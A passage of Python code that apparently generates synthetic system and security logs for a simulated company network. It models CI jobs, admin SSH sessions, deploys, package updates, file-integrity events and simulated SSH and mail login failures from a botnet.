            logins += [(day_t + r.randrange(7 * HOUR_MS, 23 * HOUR_MS),
                        self.mobile_ip[u] if r.random() < 0.7 else _public_ip(r)) for _ in range(self.n(r, 2))]
            for t, ip in logins:
                c.t = t
                sess = _rand_token(r, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
                self.syslog(t, h, "9701", "dovecot", None,
                            f"imap-login: Login: user=<{u}>, method=PLAIN, rip={ip}, lip={h.ip}, "
                            f"mpid={h.next_pid(r)}, TLS, session=<{sess}>", dec, None, "/var/log/mail.log")
        attempts = []
        for _ in range(self.n(r, 40)):
            ip = r.choice(self.botnet)
            t = day_t + r.randrange(DAY_MS - HOUR_MS)
            for _k in range(1 + int(r.expovariate(1 / 6.0))):
                t += r.randrange(2000, 40_000)
                attempts.append((t, r.choice(_MAIL_PROBE_USERS), ip, r.choice((1, 1, 2, 3))))
        self.dovecot_failures(h, attempts)

    def _role_ci(self, h: _Host, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        for _ in range(self.n(r, 75, weekend, 0.12)):
            self._ci_job(_Cur(self.office_t(r, day_t, weekend), r), h, r.choices(_CI_PROJECTS, weights=(35, 30, 20, 15))[0])
        for _ in range(self.n(r, 2)):  # nightly scheduled pipelines
            self._ci_job(_Cur(day_t + 2 * HOUR_MS + r.randrange(40 * MIN_MS), r), h, r.choice(_CI_PROJECTS),
                         nightly=True)

    def _role_workstation(self, h: _Host, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        if weekend and r.random() > 0.12:
            return
        if weekend:
            on = day_t + r.randrange(10 * HOUR_MS, 16 * HOUR_MS)
            off = on + r.randrange(HOUR_MS, 3 * HOUR_MS)
        else:
            on = day_t + 8 * HOUR_MS + r.randrange(90 * MIN_MS)
            off = day_t + 17 * HOUR_MS + r.randrange(150 * MIN_MS)
        dev = h.owner
        c = _Cur(on, r)
        gdm = h.next_pid(r)
        self.syslog(c.t, h, "5501", "gdm-password]", gdm,
                    f"pam_unix(gdm-password:session): session opened for user {dev} by (uid=0)", _DEC_PAM,
                    {"dstuser": dev, "uid": "0"})
        c.adv(200, 600)  # anacron catches up with cron.daily after boot
        if self._keep(r):
            self._cron_daily(c, h, self.timer_actor(c, h))
        self._rootcheck(h, day_t, r, (on, off))
        ses = h.next_ses()
        for _ in range(self.n(r, 34, weekend, 0.3)):
            c.t = r.randrange(on, off)
            a = _Actor(h, dev, auid=1000, ses=ses, tty=f"pts/{r.randrange(0, 4)}",
                       cwd=f"/home/{dev}/src/{r.choice(('api', 'webapp', 'libfoo', 'tools'))}", pid=h.next_pid(r))
            for _k in range(r.randrange(4, 30)):
                argv = list(r.choice(_DEV_CMDS))
                pid = self.run(c, a, argv, gap=(1, 50))
                if argv[:2] == ["git", "push"]:
                    self.run(c, a, ["ssh", "git@gitlab.example.internal", "git-receive-pack 'group/project.git'"],
                             ppid=pid, gap=(0.5, 3))
                elif argv[0] == "make":
                    for _j in range(r.randrange(2, 8)):
                        self.run(c, a, ["cc", "-O2", "-g", "-Wall", "-c", "-o", f"build/{_rand_token(r, 6)}.o",
                                        f"src/{_rand_token(r, 6)}.c"], ppid=pid, gap=(0.1, 1.5))
        for _ in range(self.n(r, 0.5, weekend, 0.2)):  # sudo for the occasional system chore
            c.t = r.randrange(on, off)
            a = _Actor(h, dev, auid=1000, ses=ses, tty="pts/1", cwd=f"/home/{dev}", pid=h.next_pid(r))
            x = r.random()
            if x < 0.5:
                self.sudo(c, a, ["apt", "update"])
                self.sudo(c, a, ["apt", "upgrade", "-y"], dur=(30, 200))
                root = _Actor(h, "root", auid=1000, ses=ses, tty="pts/1", cwd=f"/home/{dev}", pid=h.next_pid(r))
                self._dpkg_install(c, root, h, self._security_pkgs(r, h, 1, 4), "/usr/bin/apt")
            elif x < 0.8:
                self.sudo(c, a, ["systemctl", "restart", "docker"])
            else:
                root, _ = self.sudo_open(c, a, ["vim", "/etc/hosts"])
                self.edit(c, root, "/etc/hosts", diff="12a13\n> 10.20.30.40 staging.example.internal\n")
                self.sudo_close(c, a)
        for _ in range(self.n(r, 2, weekend, 0.2)):  # cupsd rewrites its subscriptions
            c.t = r.randrange(on, off)
            self.fim(c, h, "/etc/cups/subscriptions.conf", "modify", None, new_inode=True)
        self.syslog(off, h, "5502", "gdm-password]", gdm, f"pam_unix(gdm-password:session): session closed for user {dev}",
                    _DEC_PAM, {"dstuser": dev})

    def _internet_ssh(self, h: _Host, day_t: int, r: random.Random, base: float) -> None:
        attempts = []
        accounts = set(h.users)
        for _ in range(self.n(r, base)):
            ip = r.choice(self.botnet) if r.random() < 0.75 else _public_ip(r)
            t = day_t + r.randrange(DAY_MS - HOUR_MS)
            port = r.randrange(30000, 65000)
            if r.random() < 0.25:
                attempts.append((t, "noident", "", ip, port, h.next_pid(r)))
                continue
            style = r.random()
            k = min(120, 1 + int(r.expovariate(1 / 7.0)))
            fast = r.random() < 0.6
            tries_on_conn = 0
            for _k in range(k):
                t += r.randrange(700, 6000) if fast else r.randrange(15_000, 180_000)
                user = "root" if style < 0.35 else r.choice(_SSH_WORDLIST)
                pid = h.next_pid(r)
                port = r.randrange(30000, 65000)
                if user in accounts:
                    attempts.append((t, "failed", user, ip, port, pid))
                    tries_on_conn += 1
                    if tries_on_conn >= 6:
                        attempts.append((t + r.randrange(50, 400), "maxauth", user, ip, port, pid))
                        tries_on_conn = 0
                else:
                    attempts.append((t, "invalid", user, ip, port, pid))
                    attempts.append((t + r.randrange(800, 3500), "failed_invalid", user, ip, port, pid))
        self.ssh_attempts(h, attempts)

    # -- CI
    def _ci_job(self, c: _Cur, h: _Host, project: Tuple[str, str, str], *, nightly: bool = False,
                sha: Optional[str] = None) -> _Actor:
        """One GitLab CI job on a shell-executor runner: git prelude, then the project's build."""
        r = c.r
        group, proj, kind = project
        bdir = f"/home/gitlab-runner/builds/{self.runner_token[h.name]}/{r.randrange(4)}/{group}/{proj}"
        a = _Actor(h, "gitlab-runner", cwd=bdir, pid=700 + _stable_int(h.name + ":runner", 300),
                   exe="/usr/bin/gitlab-runner")
        sha = sha or _hexs(r, 40)
        pipe = r.randrange(41000, 99000)
        a.pid = self.run(c, a, ["bash", "--login"], gap=(0.05, 0.3))
        a.exe = "/usr/bin/bash"
        token = "glcbt-64_" + _rand_token(r, 20, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_")
        remote = f"https://gitlab-ci-token:{token}@gitlab.example.internal/{group}/{proj}.git"
        tmpl = f"{bdir}.tmp/git-template"
        for argv in (["git", "config", "-f", f"{tmpl}/config", "fetch.recurseSubmodules", "false"],
                     ["git", "init", bdir, "--template", tmpl],
                     ["git", "remote", "set-url", "origin", remote],
                     ["git", "-c", "http.userAgent=gitlab-runner 16.5.0 linux/amd64", "fetch", "origin",
                      f"+refs/pipelines/{pipe}:refs/pipelines/{pipe}", "--depth", "20", "--prune", "--quiet"],
                     ["git", "checkout", "-f", "-q", sha],
                     ["git", "clean", "-ffdx"]):
            p = self.run(c, a, argv, gap=(0.05, 1.0))
            if argv[-1] == "--quiet":
                self.run(c, a, ["/usr/lib/git-core/git-remote-https", "origin", remote],
                         path="/usr/lib/git-core/git-remote-https", ppid=p, gap=(0.4, 3))
        getattr(self, "_ci_" + kind)(c, a, bdir, sha, nightly)
        return a

    def _ci_c(self, c: _Cur, a: _Actor, bdir: str, sha: str, nightly: bool) -> None:
        r = c.r
        mk = self.run(c, a, ["make", "-j4"], gap=(0.05, 0.3))
        objs = []
        for name in r.sample(_C_SOURCES, r.randrange(8, len(_C_SOURCES))):
            obj = f"build/obj/{name}.o"
            objs.append(obj)
            gcc = self.run(c, a, ["gcc", "-O2", "-Wall", "-Wextra", "-fPIC", "-Iinclude", "-c", "-o", obj,
                                  f"src/{name}.c"], ppid=mk, gap=(0.01, 0.05))
            tmp = f"/tmp/cc{_rand_token(r, 6, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}.s"
            self.run(c, a, ["/usr/lib/gcc/x86_64-linux-gnu/9/cc1", "-quiet", "-Iinclude", f"src/{name}.c", "-quiet",
                            "-dumpbase", f"{name}.c", "-mtune=generic", "-march=x86-64", "-auxbase-strip", obj, "-O2",
                            "-Wall", "-Wextra", "-fPIC", "-o", tmp], ppid=gcc, gap=(0.2, 2.5))
            self.run(c, a, ["as", "--64", "-o", obj, tmp], ppid=gcc, gap=(0.02, 0.3))
        ln = self.run(c, a, ["gcc", "-shared", "-o", "build/libfoo.so.1.4.2"] + objs[:4], ppid=mk, gap=(0.01, 0.05))
        cl = self.run(c, a, ["/usr/lib/gcc/x86_64-linux-gnu/9/collect2", "-plugin",
                             "/usr/lib/gcc/x86_64-linux-gnu/9/liblto_plugin.so", "--build-id", "--eh-frame-hdr",
                             "-m", "elf_x86_64", "-shared", "-o", "build/libfoo.so.1.4.2"],
                      path="/usr/lib/gcc/x86_64-linux-gnu/9/collect2", ppid=ln, gap=(0.01, 0.05))
        self.run(c, a, ["/usr/bin/ld", "-plugin", "/usr/lib/gcc/x86_64-linux-gnu/9/liblto_plugin.so", "--build-id",
                        "-m", "elf_x86_64", "-shared", "-o", "build/libfoo.so.1.4.2"], ppid=cl, gap=(0.1, 1))
        self.run(c, a, ["ar", "rcs", "build/libfoo.a"] + objs[:5], ppid=mk, gap=(0.05, 0.5))
        self.run(c, a, ["./build/test_runner", "--junit", "report.xml"], path=f"{bdir}/build/test_runner",
                 gap=(2, 30))

    def _ci_go(self, c: _Cur, a: _Actor, bdir: str, sha: str, nightly: bool) -> None:
        r = c.r
        for verb, target in (("build", "./cmd/api"), ("test", "./...")):
            argv = ["go", verb, "-o", "bin/api", target] if verb == "build" else ["go", "test", "-race", target]
            go = self.run(c, a, argv, gap=(0.1, 0.8))
            gb = f"/tmp/go-build{r.randrange(10 ** 8, 10 ** 10)}"
            pkgs = r.sample(_GO_PACKAGES, r.randrange(10, len(_GO_PACKAGES)))
            for k, pkg in enumerate(pkgs, 1):
                work = f"{gb}/b{k:03d}"
                self.run(c, a, ["/usr/local/go/pkg/tool/linux_amd64/compile", "-o", f"{work}/_pkg_.a", "-trimpath",
                                f"{work}=>", "-p", pkg, "-lang=go1.21", "-complete", "-buildid",
                                f"{_rand_token(r, 20)}/{_rand_token(r, 20)}", "-goversion", "go1.21.4", "-c=4",
                                "-nolocalimports", "-importcfg", f"{work}/importcfg", "-pack"],
                         path="/usr/local/go/pkg/tool/linux_amd64/compile", ppid=go, gap=(0.05, 1.2))
            if verb == "build":
                self.run(c, a, ["/usr/local/go/pkg/tool/linux_amd64/link", "-o", f"{gb}/b001/exe/a.out", "-importcfg",
                                f"{gb}/b001/importcfg.link", "-buildmode=exe", "-extld=gcc", f"{gb}/b001/_pkg_.a"],
                         path="/usr/local/go/pkg/tool/linux_amd64/link", ppid=go, gap=(0.5, 4))
            else:
                for k, pkg in enumerate(pkgs[:r.randrange(2, 7)], 1):
                    name = pkg.rsplit("/", 1)[-1]
                    self.run(c, a, [f"{gb}/b{k:03d}/{name}.test", "-test.paniconexit0", "-test.timeout=10m0s"],
                             path=f"{gb}/b{k:03d}/{name}.test", ppid=go, gap=(0.5, 6))
        if nightly:
            self.run(c, a, ["go", "list", "-m", "-u", "all"], gap=(1, 5))

    def _ci_node(self, c: _Cur, a: _Actor, bdir: str, sha: str, nightly: bool) -> None:
        r = c.r
        npm = self.run(c, a, ["npm", "ci"], path="/usr/bin/npm", gap=(0.5, 3))
        for pkg, script in r.sample(_NPM_POSTINSTALL, r.randrange(3, len(_NPM_POSTINSTALL))):
            sh = self.run(c, a, ["sh", "-c", script], cwd=f"{bdir}/node_modules/{pkg}", ppid=npm, gap=(0.01, 0.1))
            self.run(c, a, script.split(), cwd=f"{bdir}/node_modules/{pkg}", ppid=sh, gap=(0.2, 3))
        wp = self.run(c, a, ["node", "node_modules/.bin/webpack", "--mode", "production"], gap=(0.5, 2))
        for _ in range(r.randrange(2, 5)):
            self.run(c, a, ["node", f"{bdir}/node_modules/terser-webpack-plugin/dist/minify.js"], ppid=wp, gap=(0.5, 8))
        jest = self.run(c, a, ["node", "node_modules/.bin/jest", "--ci", "--reporters=default", "--reporters=jest-junit"],
                        gap=(0.3, 1))
        for _ in range(4):
            self.run(c, a, ["node", f"{bdir}/node_modules/jest-worker/build/workers/processChild.js"], ppid=jest,
                     gap=(0.05, 0.3))
        c.adv(5, 40)
        self.run(c, a, ["php", "/usr/local/bin/composer", "install", "--no-dev", "--optimize-autoloader",
                        "--no-interaction"], gap=(3, 20))
        self.run(c, a, ["php", "vendor/bin/phpunit", "--log-junit", "report.xml"], gap=(3, 30))
        if nightly:
            self.run(c, a, ["npm", "audit", "--audit-level=high"], path="/usr/bin/npm", gap=(2, 10))
            self.run(c, a, ["trivy", "image", "--exit-code", "0", "--severity", "HIGH,CRITICAL",
                            "registry.example.internal/web/webapp:latest"], path="/usr/local/bin/trivy", gap=(5, 60))
        else:
            self.run(c, a, ["docker", "build", "-t", f"registry.example.internal/web/webapp:{sha[:8]}", "."], gap=(10, 90))
            self.run(c, a, ["docker", "push", f"registry.example.internal/web/webapp:{sha[:8]}"], gap=(3, 30))

    def _ci_python(self, c: _Cur, a: _Actor, bdir: str, sha: str, nightly: bool) -> None:
        r = c.r
        venv = f"/tmp/venv-{_rand_token(r, 8)}"
        py = f"{venv}/bin/python"
        self.run(c, a, ["python3", "-m", "venv", venv], gap=(1, 4))
        pip = self.run(c, a, [py, "-m", "pip", "install", "-q", "-r", "requirements.txt"], path=py, gap=(0.2, 1))
        for _ in range(r.randrange(0, 4)):
            env = f"/tmp/pip-build-env-{_rand_token(r, 8)}"
            self.run(c, a, [py, "-c", "import setuptools, tokenize;__file__='setup.py';exec(compile(...))",
                            "bdist_wheel", "-d", f"/tmp/pip-wheel-{_rand_token(r, 8)}"], path=py,
                     cwd=f"{env}/src", ppid=pip, gap=(1, 8))
        c.adv(5, 40)
        pt = self.run(c, a, [py, "-m", "pytest", "-q", "--junitxml=report.xml"], path=py, gap=(0.5, 2))
        for argv in r.sample(_PYTEST_SUBPROCS, r.randrange(1, len(_PYTEST_SUBPROCS))):
            self.run(c, a, argv, ppid=pt, gap=(0.05, 2))
        self.run(c, a, [py, "-m", "flake8", "src"], path=py, gap=(1, 6))

    # -- people at work
    def _admins(self, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        admins = list(ADMINS) + ([NEW_ADMIN] if d > self.onboard_day else [])
        for adm in admins:
            for _ in range(self.n(r, 9, weekend, 0.08)):
                self._admin_session(_Cur(self.office_t(r, day_t, weekend), r), adm)
        if r.random() < 0.25 * self.periodic:
            self._ansible_run(_Cur(self.office_t(r, day_t, weekend), r), r.choice(ADMINS), "site.yml")

    def _servers(self) -> List[_Host]:
        return [h for h in self.hosts if h.role not in ("workstation", "bastion")]

    def _admin_session(self, c: _Cur, adm: str, *, src: Optional[str] = None, targets: Optional[List[_Host]] = None,
                       task: Optional[str] = None) -> None:
        """An admin's working session: in through the bastion, onto one or two servers, a task."""
        r = c.r
        hour = (c.t - self.t0) % DAY_MS // HOUR_MS
        if src is None:
            src = self.office_ip[adm] if (8 <= hour < 18 and r.random() < 0.75) else self.vpn_ip[adm]
        if targets is None:
            pref = _ADMIN_PREF.get(adm, ROLES)
            pool = [h for h in self._servers() if h.role in pref] or self._servers()
            targets = r.sample(pool, min(len(pool), r.choice((1, 1, 1, 2)))) if pool else []
        bastions = self.by_role.get("bastion")
        if bastions:
            b = bastions[0]
            a = self.ssh_login(c, b, adm, src, user_session=r.random() < 0.3)
            for argv in r.sample(_BASTION_CMDS, r.randrange(0, 3)):
                self.run(c, a, argv, gap=(2, 40))
            for tgt in targets:
                self.run(c, a, ["ssh", tgt.name], gap=(0.3, 1.2))
                self._admin_task(c, tgt, adm, b.ip, task)
            if not targets:
                self._task_check(c, a)
            self.ssh_logout(c, a)
        else:
            for tgt in targets:
                self._admin_task(c, tgt, adm, src, task)

    def _admin_task(self, c: _Cur, h: _Host, adm: str, src: str, task: Optional[str]) -> None:
        r = c.r
        a = self.ssh_login(c, h, adm, src, user_session=r.random() < 0.2)
        c.adv(2, 20)
        if task is None:
            task = r.choice(_TASKS.get(h.role if h.role != "web" else f"web-{h.web}", ("check",)) + ("check", "root_shell"))
        getattr(self, "_task_" + task)(c, a)
        c.adv(3, 60)
        self.ssh_logout(c, a)

    def _task_check(self, c: _Cur, a: _Actor) -> None:
        r = c.r
        for argv in r.sample(_CHECK_CMDS, r.randrange(2, 5)):
            self.run(c, a, argv, gap=(2, 25))
        if r.random() < 0.6:
            self.sudo(c, a, ["tail", "-n", "200", "/var/log/syslog"])
        if r.random() < 0.4:
            self.sudo(c, a, ["journalctl", "-p", "err", "-b", "--no-pager"])

    def _task_root_shell(self, c: _Cur, a: _Actor) -> None:
        r = c.r
        root = self.root_shell_open(c, a)
        for argv in r.sample(_ROOT_CMDS, r.randrange(2, 6)):
            self.run(c, root, argv, gap=(3, 40))
        self.root_shell_close(c, a, root)

    def _task_nginx_edit(self, c: _Cur, a: _Actor) -> None:
        root, _ = self.sudo_open(c, a, ["vim", "/etc/nginx/sites-available/shop.conf"])
        self.edit(c, root, "/etc/nginx/sites-available/shop.conf",
                  diff=f"{c.r.randrange(10, 80)}c{c.r.randrange(10, 80)}\n<     client_max_body_size 20m;\n---\n>     client_max_body_size 32m;\n")
        self.sudo_close(c, a)
        self.sudo(c, a, ["nginx", "-t"])
        self.sudo(c, a, ["systemctl", "reload", "nginx"])

    def _task_nginx_reload(self, c: _Cur, a: _Actor) -> None:
        self.sudo(c, a, ["tail", "-n", "200", "/var/log/nginx/error.log"])
        self.sudo(c, a, ["systemctl", "restart", "php7.4-fpm"])
        self.sudo(c, a, ["systemctl", "reload", "nginx"])

    def _task_apache_edit(self, c: _Cur, a: _Actor) -> None:
        root, _ = self.sudo_open(c, a, ["vim", "/etc/apache2/sites-available/shop.conf"])
        self.edit(c, root, "/etc/apache2/sites-available/shop.conf",
                  diff=f"{c.r.randrange(10, 60)}a{c.r.randrange(10, 60)}\n>     Header always set X-Frame-Options DENY\n")
        self.sudo_close(c, a)
        self.sudo(c, a, ["apache2ctl", "configtest"])
        self.sudo(c, a, ["systemctl", "reload", "apache2"])

    def _task_apache_reload(self, c: _Cur, a: _Actor) -> None:
        self.sudo(c, a, ["tail", "-n", "200", "/var/log/apache2/error.log"])
        self.sudo(c, a, ["systemctl", "reload", "apache2"])

    def _task_psql(self, c: _Cur, a: _Actor) -> None:
        root, _ = self.sudo_open(c, a, ["psql"], target="postgres", command="/usr/bin/psql")
        self.run(c, root, ["psql"], gap=(30, 600))
        self.sudo_close(c, a, "postgres")
        if c.r.random() < 0.3:
            self.sudo(c, a, ["vacuumdb", "--all", "--analyze-in-stages"], target="postgres", dur=(20, 200))

    def _task_pg_edit(self, c: _Cur, a: _Actor) -> None:
        root, _ = self.sudo_open(c, a, ["vim", "/etc/postgresql/12/main/postgresql.conf"])
        self.edit(c, root, "/etc/postgresql/12/main/postgresql.conf",
                  diff=f"{c.r.randrange(100, 700)}c{c.r.randrange(100, 700)}\n< work_mem = 8MB\n---\n> work_mem = 16MB\n")
        self.sudo_close(c, a)
        self.sudo(c, a, ["systemctl", "reload", "postgresql"])

    def _task_mailq(self, c: _Cur, a: _Actor) -> None:
        self.run(c, a, ["mailq"], gap=(2, 20))
        self.sudo(c, a, ["tail", "-n", "100", "/var/log/mail.log"])
        if c.r.random() < 0.2:
            self.sudo(c, a, ["postsuper", "-d", "ALL", "deferred"])

    def _task_docker(self, c: _Cur, a: _Actor) -> None:
        self.sudo(c, a, ["docker", "ps", "-a"])
        self.sudo(c, a, ["docker", "system", "df"])
        if c.r.random() < 0.25:
            self.sudo(c, a, ["systemctl", "restart", "gitlab-runner"])

    def _task_wazuh(self, c: _Cur, a: _Actor) -> None:
        self.sudo(c, a, ["/var/ossec/bin/wazuh-control", "status"])
        self.sudo(c, a, ["tail", "-n", "100", "/var/ossec/logs/ossec.log"])
        self.sudo(c, a, ["/var/ossec/bin/agent_control", "-l"])

    def _ansible_run(self, c: _Cur, adm: str, playbook: str, *, hook: Optional[Callable] = None) -> None:
        """An admin runs a playbook from the bastion: ansible logs in to every server and becomes root."""
        r = c.r
        bastions = self.by_role.get("bastion")
        if not bastions:
            return
        b = bastions[0]
        a = self.ssh_login(c, b, adm, self.office_ip[adm])
        self.run(c, a, ["git", "-C", "infra", "pull", "--ff-only"], gap=(2, 10))
        self.run(c, a, ["ansible-playbook", "-i", "inventory/prod", playbook], path="/usr/bin/ansible-playbook",
                 cwd=f"/home/{adm}/infra", gap=(2, 8))
        for h in [x for x in self.hosts if x.role != "workstation"]:
            hc = _Cur(c.t + r.randrange(200, 4000), r)
            tmp = f"/home/{adm}/.ansible/tmp/ansible-tmp-{hc.t // 1000}.{r.randrange(10 ** 5, 10 ** 6)}-{r.randrange(1000, 99999)}-{r.randrange(10 ** 13, 10 ** 14)}"
            x = self.ssh_login(hc, h, adm, b.ip if h is not b else "127.0.0.1", history=False,
                               command=f"/bin/sh -c 'echo ~{adm} && sleep 0'")
            become = f"BECOME-SUCCESS-{_rand_token(r, 32, 'abcdefghijklmnopqrstuvwxyz')}"
            module = f"{tmp}/AnsiballZ_{r.choice(('setup', 'apt', 'user', 'copy', 'systemd'))}.py"
            root, sp = self.sudo_open(hc, x, ["/bin/sh", "-c", f"echo {become} ; /usr/bin/python3 {module}"],
                                      command=f"/bin/sh -c echo {become} ; /usr/bin/python3 {module}")
            sh = self.run(hc, root, ["/bin/sh", "-c", f"echo {become} ; /usr/bin/python3 {module}"], gap=(0.01, 0.05))
            py = self.run(hc, root, ["/usr/bin/python3", module], ppid=sh, gap=(0.3, 3))
            if hook is not None:
                hook(hc, h, root, py)
            self.sudo_close(hc, x)
            self.ssh_logout(hc, x)
        self.ssh_logout(c, a)

    # -- deploys
    def _deploys(self, d: int, day_t: int, weekend: bool, r: random.Random) -> None:
        for _ in range(self.n(r, 4, weekend, 0.1)):
            self._deploy(_Cur(self.office_t(r, day_t, weekend), r))

    def _deploy(self, c: _Cur) -> None:
        """A release of the web app: CI builds it and ships it to every web server over ssh."""
        r = c.r
        webs = self.by_role.get("web") or []
        runners = self.by_role.get("ci") or []
        sha = _hexs(r, 40)
        src = runners[0].ip if runners else self.vpn_ip["alice"]
        a = None
        if runners:
            runner = r.choice(runners)
            src = runner.ip
            a = self._ci_job(c, runner, ("web", "webapp", "node"), sha=sha)
        for w in webs:
            rel = f"/var/www/app/releases/{sha}"
            if a is not None:
                self.run(c, a, ["ssh", "-o", "StrictHostKeyChecking=no", f"deploy@{w.ip}", "mkdir", "-p", rel],
                         gap=(0.05, 0.2))
                rs = self.run(c, a, ["rsync", "-az", "--delete", "--exclude=.git", "./", f"deploy@{w.ip}:{rel}/"],
                              gap=(0.01, 0.05))
                self.run(c, a, ["ssh", "-l", "deploy", w.ip, "rsync", "--server", "-logDtprze.iLsfxCIvu", "--delete",
                                ".", f"{rel}/"], ppid=rs, gap=(0.05, 0.2))
            rc = _Cur(c.t + r.randrange(200, 900), r)
            self._deploy_to(rc, w, sha, src)
            c.t = max(c.t, rc.t) + r.randrange(500, 4000)

    def _deploy_to(self, c: _Cur, w: _Host, sha: str, src: str) -> None:
        r = c.r
        rel = f"/var/www/app/releases/{sha}"
        a = self.ssh_login(c, w, "deploy", src, history=False, command=f"mkdir -p {rel}")
        self.run(c, a, ["mkdir", "-p", rel], gap=(0.05, 0.3))
        self.ssh_logout(c, a)
        a = self.ssh_login(c, w, "deploy", src, history=False,
                           command=f"rsync --server -logDtprze.iLsfxCIvu --delete . {rel}/")
        rs = self.run(c, a, ["rsync", "--server", "-logDtprze.iLsfxCIvu", "--delete", ".", f"{rel}/"], gap=(0.05, 0.3))
        who = (1500, 1500, 1500, 1500, rs, a.pid, "/usr/bin/rsync", "/usr/bin/bash", "/home/deploy", "/home/deploy")
        for relpath, key, size in _release_files(sha):
            self.fim(c, w, f"{rel}/{relpath}", "add", who, owner="deploy", key=key, size=size)
            c.t += r.randrange(3, 90)
        c.adv(0.2, 2)
        self.ssh_logout(c, a)
        svc = "php7.4-fpm" if w.web == "nginx" else "apache2"
        a = self.ssh_login(c, w, "deploy", src, history=False,
                           command=f"ln -sfn {rel} /var/www/app/current && sudo systemctl reload {svc}")
        self.run(c, a, ["ln", "-sfn", rel, "/var/www/app/current"], gap=(0.01, 0.1))
        self.sudo(c, a, ["systemctl", "reload", svc], dur=(0.2, 1.5))
        self.ssh_logout(c, a)
        rels = self.releases.setdefault(w.name, [_hexs(random.Random(f"{self.seed}:{w.name}:rel{k}"), 40)
                                                 for k in range(4)])
        rels.append(sha)
        if len(rels) > 5:
            old = rels.pop(0)
            a = self.ssh_login(c, w, "deploy", src, history=False, command=f"rm -rf /var/www/app/releases/{old}")
            rm = self.run(c, a, ["rm", "-rf", f"/var/www/app/releases/{old}"], gap=(0.05, 0.2))
            who = (1500, 1500, 1500, 1500, rm, a.pid, "/usr/bin/rm", "/usr/bin/bash", "/home/deploy", "/home/deploy")
            for relpath, _key, _size in _release_files(old):
                self.fim(c, w, f"/var/www/app/releases/{old}/{relpath}", "delete", who)
                c.t += r.randrange(1, 12)
            self.ssh_logout(c, a)

    # -- packages
    def _pkg_applies(self, h: _Host, roles: Optional[Tuple[str, ...]]) -> bool:
        if roles is None:
            return True
        return h.role in roles or (h.web is not None and f"web-{h.web}" in roles)

    def _security_pkgs(self, r: random.Random, h: _Host, lo: int, hi: int) -> List[tuple]:
        pool = [p for p in _PACKAGES if p[4] and self._pkg_applies(h, p[3])]
        return r.sample(pool, min(len(pool), r.randrange(lo, hi + 1)))

    def _dpkg_install(self, c: _Cur, root: _Actor, h: _Host, pkgs: Sequence[tuple], parent_exe: str,
                      new: bool = False) -> None:
        """dpkg unpacking and configuring packages: commands, dpkg.log lines, changed files."""
        r = c.r
        if not pkgs:
            return
        debs = [f"/var/cache/apt/archives/{p[0]}_{self._next_version(h, p, peek=True)}_amd64.deb" for p in pkgs]
        dp = self.run(c, root, ["/usr/bin/dpkg", "--status-fd", "35", "--no-triggers", "--unpack",
                                "--auto-deconfigure"] + debs[:6], gap=(0.1, 0.6))
        who = (0, 0, 0, root.auid, dp, root.pid, "/usr/bin/dpkg", parent_exe, root.cwd, root.cwd)
        whodata = True
        versions = []
        for p in pkgs:
            old = self.pkg_version.get((h.name, p[0]), p[1])
            ver = self._next_version(h, p)
            versions.append((p, old, ver))
            if new:
                self.at(c.t, self._b_dpkg, h, "install", p[0], ver)
            for f in p[2]:
                mode = h.fim_mode(f)
                if mode == "whodata" and r.random() < 0.3 and whodata:
                    self.fim(c, h, f + ".dpkg-new", "add", who, key=f"dist|{f}|{ver}",
                             size=18_000 + _stable_int(f + ver, 2_500_000), perm="rwxr-xr-x" if "/bin/" in f else "rw-r--r--")
                    self.fim(c, h, f + ".dpkg-new", "delete", who)
                if new:
                    self.fim(c, h, f, "add", who, key=f"dist|{f}|{ver}", size=18_000 + _stable_int(f + ver, 2_500_000),
                             perm="rwxr-xr-x" if "/bin/" in f else "rw-r--r--")
                else:
                    self.fim(c, h, f, "modify", who, key=f"dist|{f}|{ver}",
                             size=18_000 + _stable_int(f + ver, 2_500_000), new_inode=True)
                c.t += r.randrange(5, 400)
            c.adv(0.2, 2.5)
        for p, old, ver in versions:
            self.at(c.t, self._b_dpkg, h, "status half-configured", p[0], ver)
            c.adv(0.02, 0.2)
            if r.random() < 0.6:
                self.run(c, root, [f"/var/lib/dpkg/info/{p[0]}.postinst", "configure", "" if new else old],
                         path=f"/var/lib/dpkg/info/{p[0]}.postinst", ppid=dp, gap=(0.05, 1.5))
            self.at(c.t, self._b_dpkg, h, "status installed", p[0], ver)
            c.adv(0.05, 0.6)
        self.run(c, root, ["/usr/bin/dpkg", "--status-fd", "35", "--configure", "--pending"], gap=(0.05, 0.3))
        self.run(c, root, ["ldconfig"], gap=(0.1, 1))
        self.run(c, root, ["/usr/bin/mandb", "--quiet"], gap=(0.5, 4))

    def _next_version(self, h: _Host, p: tuple, peek: bool = False) -> str:
        key = (h.name, p[0])
        cur = self.pkg_version.get(key, p[1])
        nxt = _bump_version(cur)
        if not peek:
            self.pkg_version[key] = nxt
        return nxt

    def _week_updates(self, d: int) -> List[tuple]:
        wr = random.Random(f"mimizuku-synth:{self.seed}:patch:{(self.start + timedelta(days=d)).isocalendar()[1]}")
        pkgs = wr.sample(_PACKAGES, wr.randrange(5, 15))
        if wr.random() < 0.35:
            pkgs.append(_KERNEL)
        if wr.random() < 0.25:
            pkgs.append(_WAZUH_AGENT)
        return pkgs

    def _patch_day(self, d: int, day_t: int, r: random.Random) -> None:
        """The weekly patch window: an admin upgrades every server, one after the other."""
        updates = self._week_updates(d)
        adm = r.choice(("alice", "carol"))
        c = _Cur(day_t + 10 * HOUR_MS + r.randrange(90 * MIN_MS), r)
        bastions = self.by_role.get("bastion")
        b = bastions[0] if bastions else None
        src = b.ip if b else self.office_ip[adm]
        outer = self.ssh_login(c, b, adm, self.office_ip[adm]) if b else None
        order = [h for h in self.hosts if h.role in ("web", "db", "mail", "manager")] + ([b] if b else [])
        for h in order:
            if not self._keep(r):  # periodic work thins out below scale 1 like cron does
                continue
            self._patch_host(c, h, adm, src if h is not b else self.office_ip[adm], updates)
            c.adv(20, 240)
        if outer is not None:
            self.ssh_logout(c, outer)

    def _patch_host(self, c: _Cur, h: _Host, adm: str, src: str, updates: Sequence[tuple]) -> None:
        r = c.r
        a = self.ssh_login(c, h, adm, src)
        root, _ = self.sudo_open(c, a, ["apt-get", "update"])
        ag = self.run(c, root, ["apt-get", "update"], gap=(0.2, 1))
